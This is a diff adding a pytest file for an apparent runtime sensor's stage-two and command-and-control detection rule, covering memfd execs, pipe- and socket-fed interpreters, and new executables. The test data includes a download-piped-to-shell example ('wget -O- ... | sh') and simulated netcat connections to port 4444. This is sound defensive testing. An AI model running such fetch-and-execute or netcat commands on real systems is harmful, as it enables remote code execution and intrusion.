@@ -1,0 +1,206 @@
+"""Stage-two origins read from /proc (sensor.telemetry.stage) and the
+behavioural SL-C2-001 built on them: memfd and /proc fd execs, an
+interpreter fed by a pipe whose writer fetched the script, or by a socket,
+and executables outside a learned workload's baseline."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from sensor.telemetry.stage import (
+    FD_EXEC,
+    MEMFD,
+    STDIN_PIPE,
+    STDIN_SOCKET,
+    is_interpreter,
+    script_from_stdin,
+    stage_origin,
+)
+from tests.support.views import T0, WINDOW, config, connect, container, detector, exec_, learn, window
+
+
+def fake_proc(root: Path, pid: int, fds: dict[int, tuple[str, int]]) -> None:
+    """/proc/<pid>/fd/N -> target, and fdinfo flags (octal)."""
+    (root / str(pid) / "fd").mkdir(parents=True)
+    (root / str(pid) / "fdinfo").mkdir(parents=True)
+    for fd, (target, flags) in fds.items():
+        os.symlink(target, root / str(pid) / "fd" / str(fd))
+        (root / str(pid) / "fdinfo" / str(fd)).write_text(f"pos:\t0\nflags:\t{flags:o}\nmnt_id:\t9\n")
+
+
+@pytest.mark.parametrize(
+    ("args", "stdin"),
+    [
+        (["sh"], True),
+        (["sh", "-s", "--", "a"], True),
+        (["bash", "-"], True),
+        (["python3", "-u"], True),
+        (["python3.11", "-"], True),
+        (["busybox", "sh"], True),
+        (["sh", "-c", "wget -O- x | sh"], False),
+        (["sh", "--", "/app/run.sh"], False),
+        (["sh", "--"], True),
+        (["sh", "/app/start.sh"], False),
+        (["perl", "-e", "print 1"], False),
+        (["python3", "app.py"], False),
+        (["busybox", "wget", "-O-", "x"], False),
+        ([], False),
+        (None, False),
+    ],
+)
+def test_script_from_stdin(args: list[str] | None, stdin: bool) -> None:
+    assert script_from_stdin(args) is stdin
+
+
+def test_interpreters() -> None:
+    assert all(is_interpreter(x) for x in ("/bin/sh", "bash", "python3.12", "perl5.36", "node", "/usr/bin/ruby"))
+    assert not any(is_interpreter(x) for x in ("/usr/bin/wget", "curl", "pythonista", "/app/server"))
+
+
+def test_piped_script_names_its_writer(tmp_path: Path) -> None:
+    fake_proc(tmp_path, 200, {0: ("pipe:[777]", 0), 1: ("/dev/null", 1)})
+    fake_proc(tmp_path, 199, {0: ("/dev/null", 0), 1: ("pipe:[777]", 1), 3: ("socket:[55]", 2)})
+    fake_proc(tmp_path, 198, {0: ("pipe:[777]", 0)})  # another reader is not a writer
+    o = stage_origin(200, "/bin/sh", "/bin/sh", ["sh"], lambda: [198, 199, 4242], str(tmp_path))
+    assert o is not None and o.kind == STDIN_PIPE and o.writers == (199,)
+
+
+def test_socket_on_stdin(tmp_path: Path) -> None:
+    fake_proc(tmp_path, 300, {0: ("socket:[123]", 2)})
+    o = stage_origin(300, "/usr/bin/python3", "/usr/bin/python3", ["python3"], list, str(tmp_path))
+    assert o is not None and o.kind == STDIN_SOCKET
+
+
+def test_interpreter_on_a_file_or_tty_or_gone_is_no_stage(tmp_path: Path) -> None:
+    fake_proc(tmp_path, 400, {0: ("/dev/pts/0", 2)})
+    assert stage_origin(400, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None
+    assert stage_origin(401, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None  # exited
+    assert stage_origin(400, "/bin/sh", "/bin/sh", ["sh", "/app/run.sh"], list, str(tmp_path)) is None
+
+
+@pytest.mark.parametrize(
+    ("filename", "exe", "kind"),
+    [
+        ("/proc/self/fd/3", "/memfd:payload (deleted)", MEMFD),
+        ("/dev/fd/4", "/memfd: (deleted)", MEMFD),
+        ("/proc/1234/fd/7", "/tmp/x (deleted)", FD_EXEC),
+        ("/usr/bin/x", "/memfd:x (deleted)", MEMFD),
+    ],
+)
+def test_fd_and_memfd_execs(tmp_path: Path, filename: str, exe: str, kind: str) -> None:
+    o = stage_origin(1, filename, exe, ["x"], list, str(tmp_path))
+    assert o is not None and o.kind == kind
+
+
+# --- the rule ---------------------------------------------------------------------
+
+DET = T0 + 600.0
+EVIL = {"image": "evil/exfil:latest"}
+
+
+def rules_of(alerts: list[dict]) -> list[str]:  # type: ignore[type-arg]
+    return [a["rule"]["id"] for a in alerts]
+
+
+def learned(make, n: int = 5):  # type: ignore[no-untyped-def]
+    return learn(make(T0 + i * WINDOW) for i in range(n))
+
+
+DROP = container("dropper", **EVIL)
+
+
+def staged(ex, **kw):  # type: ignore[no-untyped-def]
+    for k, v in kw.items():
+        setattr(ex, k, v)
+    return ex
+
+
+def test_pipe_stage_whose_writer_connects_after_the_exec(tmp_path: Path) -> None:
+    """`wget -O- http://A/s | sh`: sh execs first, wget (the pipe's writer)
+    then connects to A, and the script opens a channel to B."""
+    h = detector(config(tmp_path))
+    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=21), origin=STDIN_PIPE, writers=(20,))
+    v = window(
+        DET + 5,
+        seconds=10,
+        execs=[sh],
+        connects=[
+            connect(DROP, DET + 0.01, "198.51.100.5", 80, executable="/usr/bin/wget", pid=20),
+            connect(DROP, DET + 0.5, "203.0.113.66", 4444, executable="/usr/bin/nc", pid=22),
+        ],
+    )
+    alerts = h.run(v)
+    assert rules_of(alerts) == ["SL-C2-001"]
+    ev = alerts[0]["sluice"]["evidence"]
+    assert ev["stage"] == STDIN_PIPE and ev["chain"][1]["script_writers"] == [20]
+    assert ev["chain"][0]["destination"] == "198.51.100.5:80"
+    assert "piped into" in alerts[0]["message"]
+
+
+def test_pipe_stage_needs_its_writer_to_connect(tmp_path: Path) -> None:
+    """`cat local.sh | sh` (writer 20 never connects): a connect by someone
+    else is not the fetch."""
+    h = detector(config(tmp_path))
+    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=21), origin=STDIN_PIPE, writers=(20,))
+    v = window(
+        DET + 5,
+        seconds=10,
+        execs=[sh],
+        connects=[
+            connect(DROP, DET + 0.01, "198.51.100.5", 80, pid=30),
+            connect(DROP, DET + 0.5, "203.0.113.66", 4444, pid=22),
+        ],
+    )
+    assert h.run(v) == []
+
+
+def test_pipe_stage_with_an_exited_writer_uses_a_nearby_fetch(tmp_path: Path) -> None:
+    h = detector(config(tmp_path))
+    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=21), origin=STDIN_PIPE)
+    v = window(
+        DET + 5,
+        seconds=10,
+        execs=[sh],
+        connects=[
+            connect(DROP, DET - 0.2, "198.51.100.5", 80, pid=20),
+            connect(DROP, DET + 2, "203.0.113.66", 4444, pid=22),
+        ],
+    )
+    assert rules_of(h.run(v)) == ["SL-C2-001"]
+
+
+@pytest.mark.parametrize("origin", [MEMFD, FD_EXEC])
+def test_memfd_stage_outside_writable_paths(tmp_path: Path, origin: str) -> None:
+    h = detector(config(tmp_path))
+    ex = staged(exec_(DROP, DET, "/memfd:x (deleted)", ["x"], pid=11), origin=origin)
+    v = window(
+        DET + 5,
+        seconds=10,
+        execs=[ex],
+        connects=[connect(DROP, DET - 1, "198.51.100.5", 80, pid=10), connect(DROP, DET + 1, "203.0.113.66", 4444)],
+    )
+    alerts = h.run(v)
+    assert rules_of(alerts) == ["SL-C2-001"] and alerts[0]["sluice"]["evidence"]["stage"] == origin
+
+
+def test_executable_outside_the_baseline_is_a_stage(tmp_path: Path) -> None:
+    """A learned workload runs /app/bin/helper it never ran while learning
+    (not a writable path), then talks to a new host."""
+    app = container("app-1", image="acme/app:1")
+    b = learned(lambda end: window(end, execs=[exec_(app, end - 1, "/app/bin/server", ["server"])]))
+    h = detector(config(tmp_path), b)
+
+    def chain(exe: str, t: float) -> object:
+        return window(
+            t + 5,
+            seconds=10,
+            execs=[exec_(app, t, exe, [exe], pid=11)],
+            connects=[connect(app, t - 1, "198.51.100.5", 80, pid=10), connect(app, t + 1, "203.0.113.66", 4444)],
+        )
+
+    assert h.run(chain("/app/bin/server", DET)) == []  # known executable
+    alerts = h.run(chain("/app/bin/helper", DET + 60))
+    assert rules_of(alerts) == ["SL-C2-001"] and alerts[0]["sluice"]["evidence"]["stage"] == "new_executable"
